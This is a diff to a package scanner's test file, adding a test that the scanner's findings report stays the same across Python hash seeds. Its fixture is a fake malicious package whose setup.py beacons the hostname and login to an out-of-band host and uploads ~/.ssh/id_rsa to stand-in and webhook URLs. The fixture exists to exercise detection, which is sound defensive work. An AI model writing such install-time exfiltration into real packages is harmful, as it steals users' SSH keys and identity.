@@ -5,6 +5,9 @@ archives are only read as bytes."""
 
 from __future__ import annotations
 
+import os
+import subprocess
+import sys
 import textwrap
 from pathlib import Path
 
@@ -128,3 +131,38 @@ def test_memo_forgets_least_recently_used_bytes_past_its_budget() -> None:
     assert memo.patterns(b"x" * 11) is None
     assert memo.derived(b"aaaa", "n", len) == 4
     assert memo.derived(b"aaaa", "n", lambda _: -1) == 4  # kept, not computed again
+
+
+def test_reports_are_the_same_in_every_process(tmp_path: Path) -> None:
+    """Which flow or send a finding quotes must not depend on the order a set iterates in, which
+    string hashing changes from process to process: the JSON report is the same for any seed."""
+    helper = (
+        "import requests\n\n\ndef upload(data):\n"
+        "    requests.post('https://a.example.invalid/u', data=data)\n"
+        "    requests.post('https://hooks.slack.com/services/T0/B0/x', data=data)\n"
+    )
+    setup = (
+        "import os, socket, requests\nfrom setuptools import setup\n"
+        "from fixturepkg.helper import upload\n"
+        "requests.get('https://x.oast.me/?h=' + socket.gethostname() + os.getlogin())\n"
+        "upload(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
+        "setup(name='fixturepkg', version='1.0.0')\n"
+    )
+    path = write_sdist(_dir(tmp_path / "s"), {f"{PKG}/helper.py": helper}, setup_py=setup)
+    script = (
+        "import json, sys\nfrom custody.scan import Scanner, ScanTask\n"
+        "(r,) = Scanner().scan_task(ScanTask(sys.argv[1]))\n"
+        "print(json.dumps([(f.rule, f.file, f.line, f.reason) for f in r.findings]))\n"
+    )
+    reports = {
+        subprocess.run(
+            [sys.executable, "-c", script, str(path)],
+            env={**os.environ, "PYTHONHASHSEED": str(seed)},
+            capture_output=True,
+            text=True,
+            check=True,
+        ).stdout
+        for seed in range(1, 7)
+    }
+    assert len(reports) == 1
+    assert "secret-exfiltration" in next(iter(reports))
